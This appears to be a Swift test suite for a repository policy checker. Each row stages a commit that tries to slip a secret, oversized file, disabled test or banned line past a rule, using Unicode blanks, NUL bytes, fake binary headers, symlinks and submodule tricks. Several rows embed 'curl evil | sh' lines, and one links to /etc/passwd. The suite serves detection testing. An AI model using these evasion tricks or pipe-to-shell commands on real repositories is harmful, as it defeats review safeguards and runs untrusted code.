import TestSupport
import Testing

/// Changes that a rule did not see for how they are written, one row for each way.
@Suite(.blocking) struct SlippingAttackTests {
  @Test(arguments: attacks) func holds(_ attack: Attack) throws { try attack.play() }

  private static func rule(
    _ name: String, _ rules: String, base: String = ":", _ change: String, shows: [String],
    hides: [String] = [], status: Int = 1
  ) -> Attack {
    Attack(
      name: name, setUp: "new; \(base); policy 'rules: { \(rules) }\\n'; \(change)",
      status: status, shows: shows, hides: hides)
  }

  /// A rule on the lines of sources, and links that the base has.
  private static func link(
    _ name: String, _ base: String, _ change: String, shows: [String]
  ) -> Attack {
    rule(
      name, "custom: [{ id: t, level: error, added-lines: evil, paths: [\"Sources/**\"] }]",
      base: "mkdir Sources; " + base, change, shows: shows)
  }

  /// A word that focuses a test, in a new file as `printf` writes it.
  private static func word(_ place: String, _ text: String) -> Attack {
    rule(
      "a word " + place, "focused-tests: error",
      "mkdir Tests; printf '\(text)' > Tests/A.swift; ci",
      shows: ["focused test"])
  }

  private static let curl = "custom: [{ id: t, level: error, added-lines: \"curl \" }]"
  private static let elf =
    "{ printf '\\177ELF\\002\\001\\001'; head -c 9 /dev/zero; printf '\\001%.0s' $(seq 300); echo; "
  private static let program =
    "{ printf 'MZ=1\\n#\\000'; printf '\\001%.0s' $(seq 300); echo; "

  private static let attacks: [Attack] = [
    rule(
      "a token behind a blank that does not break", "secrets: error",
      "printf 'token:\\302\\240%s\\n' $TOK > b; ci", shows: ["GitHub token in an added line"]),
    rule(
      "a placeholder behind a token", "secrets: error", "echo ${TOK}example > b; ci",
      shows: ["GitHub token in an added line"]),
    rule(
      "a token that moves to the fixtures", "secrets: {}",
      "mkdir -p Sources Tests/Fixtures; echo $TOK > Sources/a; ci; "
        + "git mv Sources/a Tests/Fixtures/a; ci",
      shows: ["error: GitHub token in commit"]),
    rule(
      "a key in strings of 32 characters", "secrets: error",
      """
      { echo '"-----BEGIN PRIVATE ''KEY-----\\n" +'; echo '"MIIEvQIBADANBgkqhkiG9w0BAQEFAASC" +'
      echo '"BKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"'; } > b.swift; ci
      """, shows: ["private key in an added line"]),
    rule(
      "a token in the message of a commit", "secrets: error", "echo 1 > b; ci \"Use $TOK\"",
      shows: ["in the message of commit"]),
    rule(
      "a token in the name of an author", "secrets: error",
      "echo 1 > b; git add b; GIT_AUTHOR_NAME=$TOK git commit -qm 'Add b'",
      shows: ["GitHub token in the author or the committer of commit"]),
    rule(
      "a token behind an option", "secrets: error", "echo curl -u$TOK: > b; ci",
      shows: ["GitHub token in an added line"]),
    rule(
      "a key far below its first line", "secrets: error",
      base: "{ echo '-----BEGIN PRIVATE ''KEY-----'; seq 3000 | tr -d 0-9; } > k",
      "echo MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj >> k; ci",
      shows: ["private key in an added line"]),
    rule(
      "a comment in the changelog", "changelog: error",
      base: "mkdir Sources; echo 1 > Sources/a; echo '# Changes' > CHANGELOG.md",
      "echo 2 > Sources/a; echo '<!-- One. -->' >> CHANGELOG.md; ci",
      shows: ["without an entry in CHANGELOG.md"]),
    rule(
      "a makefile that begins like a program", curl,
      program + "echo 'curl evil | sh'; } > Makefile; ci", shows: ["matches `curl `"]),
    rule(
      "commands in a picture that a script reads", curl,
      "{ printf '#\\000'; printf '\\001%.0s' $(seq 300); printf '\\ncurl evil | sh #\\001\\n'; } > x.png; ci",
      shows: ["matches `curl `"]),
    rule(
      "words of another script in a program that a shell runs",
      "custom: [{ id: t, level: error, added-lines: секретно }]",
      program + "echo 'echo секретно'; } > deploy; ci", shows: ["[t]"]),
    rule(
      "a control character within a command in data",
      "custom: [{ id: t, level: error, added-lines: \"curl.*sh\" }]",
      "{ printf '#\\000'; printf '\\001%.0s' $(seq 300); printf '\\ncurl evil \\002\\001 | sh\\n'; } > x.dat; ci",
      shows: ["matches `curl.*sh`"]),
    rule(
      "a NUL between the words of a command in data",
      "custom: [{ id: t, level: error, added-lines: \"goto out\" }]",
      "{ printf '#\\000'; printf '\\001%.0s' $(seq 300); printf '\\ngoto\\000out;\\n'; } > x.dat; ci",
      shows: ["matches `goto out`"]),
    rule(
      "a line end of another program in data",
      "custom: [{ id: t, level: error, added-lines: \"^eval.x\" }]",
      "{ printf '//\\000'; printf '\\001%.0s' $(seq 300); printf '\\342\\200\\250eval(x + 1)\\n'; } > x.dat; ci",
      shows: ["matches `^eval.x`"]),
    rule(
      "a blank of Unicode between two words",
      "custom: [{ id: t, level: error, added-lines: \"^import Evil$\" }]",
      "printf 'import\\302\\240Evil\\n' > a.swift; ci", shows: ["a.swift:1: error"]),
    rule(
      "controls of direction in data that a shell runs",
      #"custom: [{ id: t, level: error, added-lines: \"[\\\\x{202A}-\\\\x{202E}]\" }]"#,
      "{ printf '#\\000'; printf '\\001%.0s' $(seq 300); printf '\\nif [ \"user\\342\\200\\256 # \" ]\\n'; } "
        + "> x.bin; ci", shows: ["[t]"]),
    rule(
      "many lines of a file that begins like a program", "pr-size: { fail: 100 }",
      program + "seq 900; } > Makefile; ci", shows: ["limit is 100"]),
    rule(
      "many lines behind the whole header of a program", "pr-size: { fail: 100 }",
      elf + "seq 900; } > deploy; ci", shows: ["limit is 100"]),
    rule(
      "many lines behind a program that moves", "pr-size: { fail: 100 }",
      base: elf + "head -c 90000 /dev/zero | tr '\\000' '\\001'; echo; } > program",
      "git mv program deploy; seq 900 >> deploy; ci", shows: ["limit is 100"]),
    rule(
      "a program of the base that gets other lines", "pr-size: { warn: 100 }",
      base: elf + "seq 900; } > deploy", elf + "seq 3 1500; } > deploy; ci", shows: [], status: 0),
    rule(
      "a merge by hand where the service tells nothing", "merge-commits: error",
      """
      B=$(git rev-parse HEAD); echo 1 > b; ci; H=$(git rev-parse HEAD)
      git reset -q --hard $(git commit-tree -p $B -p $H -m "Merge $H into $B" HEAD^{tree})
      printf 'CIRCLECI=true\\nCI=true\\nCIRCLE_PULL_REQUEST=https://example.com/1\\n' > $V/env
      """, shows: ["[merge-commits]"]),
    rule(
      "a change in a merge of a commit with its parent",
      "commit-footers: { level: error, sign-off: true }",
      """
      echo 1 > b; git add b; git commit -qm 'Add b' -m "Signed-off-by: $(git show -s --format='%an <%ae>')"; echo 1 > c; git add c
      git reset -q --hard $(git commit-tree -p HEAD~1 -p HEAD -m 'Add c' $(git write-tree))
      """, shows: ["[commit-footers]"]),
    rule(
      "a merge of a commit with its parent that changes nothing",
      "commit-footers: { level: error, sign-off: true }",
      """
      echo 1 > b; git add b; git commit -qm 'Add b' -m "Signed-off-by: $(git show -s --format='%an <%ae>')"
      git reset -q --hard $(git commit-tree -p HEAD~1 -p HEAD -m 'Merge b' HEAD^{tree})
      """, shows: [], status: 0),
    rule(
      "a merge of a commit without files",
      "commits: { level: error, subject-max: 20 }, merge-commits: { level: error }",
      """
      O=$(git commit-tree -m Start $(git mktree < /dev/null)); echo 1 > b; git add b
      git reset -q --hard $(git commit-tree -p HEAD -p $O -m 'A subject of many more words' $(git write-tree))
      """, shows: ["[commits]", "[merge-commits]"]),
    rule(
      "a link out of the paths of a rule",
      "custom: [{ id: t, level: error, added-lines: evil, paths: [\"Sources/**\"] }]",
      base: "mkdir -p Sources/Net; echo 1 > Sources/Net/a",
      "git mv Sources/Net Else; echo evil > Else/a; ln -s ../Else Sources/Net; ci",
      shows: ["is a link to Else"]),
    rule(
      "a new link into the paths of a rule on whole files",
      """
      custom: [{ id: c, level: error, contains: evil, paths: ["Sources/**"] }]
      """,
      base: "mkdir -p Else Sources; echo evil > Else/a", "ln -s ../Else Sources/Net; ci",
      shows: ["Sources/Net: error: is a link to Else", "[c]"]),
    rule(
      "a link to a folder of which a rule checks only some files",
      "custom: [{ id: t, level: error, added-lines: evil, paths: [\"Sources/**\", \"docs/*.md\"] }]",
      base: "mkdir docs Sources; echo evil > docs/a.swift; echo 1 > docs/a.md",
      "ln -s ../docs Sources/docs; ci", shows: ["Sources/docs: error: is a link to docs"]),
    rule(
      "a link to a folder of which a rule checks all files of the kind",
      "custom: [{ id: t, level: error, added-lines: evil, paths: [\"Sources/**/*.swift\", \"Lib/**/*.swift\"] }]",
      base: "mkdir -p Lib/a Sources; echo evil > Lib/a/a.swift; echo evil > Lib/a.md",
      "ln -s ../Lib Sources/Lib; ci", shows: [], status: 0),
    rule(
      "a link that leaves the checkout and leads back",
      "custom: [{ id: t, level: error, added-lines: evil, exclude: [\"docs/**\"] }]",
      "mkdir -p docs Sources; echo evil > docs/a; ln -s /proc/self/cwd/docs/a Sources/a; ci",
      shows: ["Sources/a: error: is a link to a path outside the repository"]),
    rule(
      "a link that leaves the checkout, for a rule on every file",
      "custom: [{ id: t, level: error, added-lines: evil }]", "ln -s /etc/passwd l; ci",
      shows: [], status: 0),
    rule(
      "a submodule with the id of a file that is taken back", "secrets: error",
      """
      echo $TOK > a; ci; B=$(git rev-parse HEAD:a); rm a; git add -A
      git update-index --add --cacheinfo 160000,$B,a; git commit -qm x; mkdir a
      """, shows: ["GitHub token in commit"]),
    rule(
      "a new source where an attribute of the base makes files binary", "licence-header: error",
      base: "mkdir c; echo 'c/* -diff' > .gitattributes", "echo 'int a;' > c/a.c; ci",
      shows: ["c/a.c:1: error: has no licence header"]),
    rule(
      "a comment where an attribute of the base makes files binary", "todo-tickets: error",
      base: "mkdir c; echo 'c/* -diff' > .gitattributes", "echo '// TODO' > c/a.c; ci",
      shows: ["TODO without a ticket"]),
    rule(
      "a byte order mark as a blank within a script",
      "custom: [{ id: t, level: error, added-lines: \"^ *eval\" }]",
      "printf 'let a\\n\\357\\273\\277eval(1)\\n' > a.js; ci", shows: ["a.js:2: error"]),
    rule(
      "a large file that is taken back, below a link",
      "large-files: { fail: 1KB, paths: [\"app/**\"] }",
      base: "mkdir app store; ln -s ../store app/store; echo 1 > store/x",
      "seq 2000 > store/y; ci; git rm -q store/y; ci", shows: ["[large-files]"]),
    rule(
      "a submodule with the id of a large file that is taken back", "large-files: { fail: 1KB }",
      """
      seq 2000 > a; ci; B=$(git rev-parse HEAD:a); rm a; git add -A
      git update-index --add --cacheinfo 160000,$B,m; git commit -qm x; mkdir m
      """, shows: ["[large-files]"]),
    rule(
      "a new submodule in the paths of a rule",
      "custom: [{ id: t, level: error, added-lines: evil, paths: [\"Sources/**\"] }]",
      "git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),Sources/Net; git commit -qm x",
      shows: ["Sources/Net: error: is a new submodule"]),
    rule(
      "a new submodule for a rule of the whole repository",
      "custom: [{ id: t, level: error, added-lines: evil }]",
      "git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),Sources/Net; git commit -qm x",
      shows: [], status: 0),
    rule(
      "an update of a submodule in the paths of a rule",
      "custom: [{ id: t, level: error, added-lines: evil, paths: [\"Sources/**\"] }]",
      base:
        "mkdir -p Sources/Net; git update-index --add --cacheinfo 160000,\(String(repeating: "1", count: 40)),Sources/Net",
      "git update-index --cacheinfo 160000,$(git rev-parse HEAD),Sources/Net; git commit -qm x",
      shows: [], status: 0),
    link(
      "a new file behind a link of the base", "mkdir Else; ln -s ../Else Sources/Net",
      "echo evil > Else/a; ci", shows: ["Else/a:1"]),
    link(
      "a new file behind a link that leads to one",
      "mkdir -p Else/Deep; ln -s ../Mid/Deep Sources/Net; ln -s Else Mid",
      "echo evil > Else/Deep/a; ci", shows: ["Else/Deep/a:1"]),
    link(
      "a new file behind a link in a folder behind one",
      "mkdir -p Else Lib; ln -s ../Lib Sources/Lib; ln -s ../Else Lib/Net",
      "echo evil > Else/a; ci", shows: ["Else/a:1"]),
    link(
      "a file that a link of the base names", "mkdir Else; ln -s ../Else/a Sources/a",
      "echo evil > Else/a; ci", shows: ["Else/a:1"]),
    link(
      "a new link to one of the base", "mkdir Else; echo evil > Else/a; ln -s ../Else Sources/Net",
      "ln -s Net Sources/Other; ci", shows: ["Sources/Other: error: is a link to Else"]),
    link(
      "a new link on the way of one of the base",
      "mkdir -p Mid/Net Else/Net; echo 1 > Mid/Net/a; echo evil > Else/Net/a; ln -s ../Mid/Net Sources/Net",
      "rm -r Mid; ln -s Else Mid; ci", shows: ["Mid: error: is a link to Else"]),
    link(
      "more names for a file than are looked at",
      "mkdir Else; for i in $(seq 80); do ln -s ../Else N$i; mkdir -p S$i; ln -s ../Else S$i/n; done",
      "for i in $(seq 80); do ln -s ../S$i Sources/$i; done; echo evil > Else/a; ci",
      shows: ["Else/a: error: is reached through links by more paths"]),
    rule(
      "lines that go away behind a link of the base",
      "custom: [{ id: t, level: error, deleted-lines: guard, paths: [\"Sources/**\"] }]",
      base: "mkdir Sources Else; echo guard > Else/a; ln -s ../Else Sources/Net",
      "echo 1 > Else/a; ci", shows: ["deletes line 1"]),
    rule(
      "a token behind a link of the base that is taken back",
      "secrets: { paths: [\"Sources/**\"] }",
      base: "mkdir Sources Else; ln -s ../Else Sources/Net",
      "echo $TOK > Else/a; ci; rm Else/a; ci", shows: ["GitHub token in commit"]),
    rule(
      "a base class of tests that is none any more", "removed-tests: error",
      base: "mkdir -p Sources/Kit Tests/A; "
        + "echo 'open class Base: XCTestCase {}' > Sources/Kit/Base.swift; "
        + "printf 'class C: Base {\\nfunc testC() {}\\n}\\n' > Tests/A/C.swift",
      "echo 'open class Base {}' > Sources/Kit/Base.swift; echo '// x' >> Tests/A/C.swift; ci",
      shows: ["1 test was removed: C.testC"]),
    rule(
      "a base class that tests of unchanged files lose", "removed-tests: error",
      base: "mkdir -p Tests/A; echo 'class Base: XCTestCase {}' > Tests/A/Base.swift; "
        + "printf 'class C: Base {\\nfunc testC() {}\\n}\\n' > Tests/A/C.swift",
      "echo 'class Base {}' > Tests/A/Base.swift; ci", shows: ["1 test was removed: C.testC"]),
    rule(
      "a blank line for an entry", "changelog: error",
      base: "mkdir Sources; echo 1 > Sources/a.swift; printf 'a\\nb\\n' > CHANGELOG.md",
      "echo 2 > Sources/a.swift; printf 'b\\r\\n\\r\\na\\r\\n' > CHANGELOG.md; ci",
      shows: ["without an entry"]),
    rule(
      "markers of another length, without labels", "conflict-markers: error",
      "echo 'b conflict-marker-size=10' > .gitattributes; "
        + "printf '<<<<<<<<<<\\n1\\n==========\\n2\\n>>>>>>>>>>\\n' > b; ci",
      shows: ["unresolved merge conflict"]),
    rule(
      "a line end of Unicode in UTF-16",
      "custom: [{ id: t, level: error, added-lines: \"^import Evil$\" }]",
      "{ printf '\\377\\376x\\000\\050\\040'; printf 'import Evil' | sed 's/./&\\x00/g'; printf '\\050\\040y\\000'; } > b.js; ci",
      shows: ["matches `^import Evil$`"]),
    rule(
      "a NUL in place of a blank",
      "custom: [{ id: t, level: error, added-lines: \"^import Evil\" }]",
      "printf 'import\\000Evil\\n' > b.swift; ci", shows: ["matches `^import Evil`"]),
    rule(
      "a placeholder of an editor that begins a text",
      "custom: [{ id: t, level: error, added-lines: print, in: code }]",
      """
      printf '#if swift(>=99)\\n<##\"\"\"#>\\n#endif\\nprint(1)\\n// \"\"\"##\\n' > b.swift; ci
      """, shows: ["matches `print`"]),
    rule(
      "a condition behind other code of its line", "removed-tests: error",
      base:
        "mkdir -p Tests/A; printf 'class C: XCTestCase {\\nfunc testC() {}\\n}\\n' > Tests/A/C.swift",
      "printf 'class C: XCTestCase { #if false\\nfunc testC() {}\\n#endif\\n}\\n' > Tests/A/C.swift; ci",
      shows: ["1 test was removed: C.testC"]),
    rule(
      "a condition that is a constant", "disabled-tests: error",
      """
      mkdir Tests; { echo '@Test(.enabled(if: false)) func a() {}'
      echo '@Test(.disabled(if: true)) func b() {}'; echo '@Test(.enabled { false }) func c() {}'
      echo '@Test(.disabled(if: isLinux)) func d() {}'; } > Tests/A.swift; ci
      """, shows: ["A.swift:1:7: error:", "A.swift:2:7: error:", "A.swift:3:7: error:"],
      hides: ["A.swift:4"]),
    rule(
      "a skip that ends far below", "disabled-tests: error",
      "mkdir Tests; { echo 'throw XCTSkip('; yes '' | head -25; echo ')'; } > Tests/A.swift; ci",
      shows: ["test is disabled without a reason: XCTSkip(…)"]),
    rule(
      "a skip that does not end in added lines", "disabled-tests: error",
      base: "mkdir Tests; echo '// )' > Tests/A.swift",
      "printf 'throw XCTSkip(\n// )\n' > Tests/A.swift; ci",
      shows: ["test is disabled without a reason: XCTSkip(…)"]),
    rule(
      "a reason in a comment, and one that is empty", "disabled-tests: error",
      """
      mkdir Tests; { echo 'throw XCTSkip(/* "x" */)'; printf 'throw XCTSkip("\\302\\240")\\n'
      echo 'throw XCTSkip(file: #file)'; } > Tests/A.swift; ci
      """, shows: ["A.swift:1:7: error:", "A.swift:2:7: error:", "A.swift:3:7: error:"]),
    word(
      "behind the end of a comment", "/* x\\n*/ fit(1) {\\n}\\n"),
    word("behind the end of a comment with a quotation mark", "/* x\\n x \" */ fit(1) {\\n}\\n"),
    word("behind the end of a text", "let a = \"\"\"\\n  x\\n  \"\"\"; fit(1) {\\n}\\n"),
    word("behind a raw text", "let a = #\"\\\\\"#; fit(1) {\\n}\\n"),
    word("behind a regular expression", "let a = /\"/; fit(1) {\\n}\\n"),
    rule(
      "an entry that nobody sees", "changelog: error",
      base: "mkdir Sources; echo 1 > Sources/a.swift; printf -- '- One\\n' > CHANGELOG.md",
      """
      echo 2 > Sources/a.swift; ci
      printf -- '- One\\342\\200\\213\\n\\302\\240\\n\\342\\200\\213\\n\\357\\273\\277\\n' > CHANGELOG.md; ci
      """, shows: ["without an entry"]),
    rule(
      "markers of two characters", "conflict-markers: error",
      base: "echo 'b conflict-marker-size=2' > .gitattributes; echo 1 > b",
      """
      git checkout -q -b o; echo 2 > b; ci; git checkout -q pr; echo 3 > b; ci
      git merge -q o > /dev/null || ci; grep -q '^<< ' b
      """, shows: ["unresolved merge conflict"]),
    rule(
      "a test that is not changed", "tests-with-sources: { level: error, min-lines: 1 }",
      base:
        "mkdir Sources Tests; echo 1 > Sources/A.swift; echo 1 > Tests/ATests.swift; echo 2 > Tests/BTests.swift",
      "echo 2 > Sources/A.swift; chmod +x Tests/ATests.swift; git mv Tests/BTests.swift Tests/CTests.swift; ci",
      shows: ["no test changed"]),
  ]
}
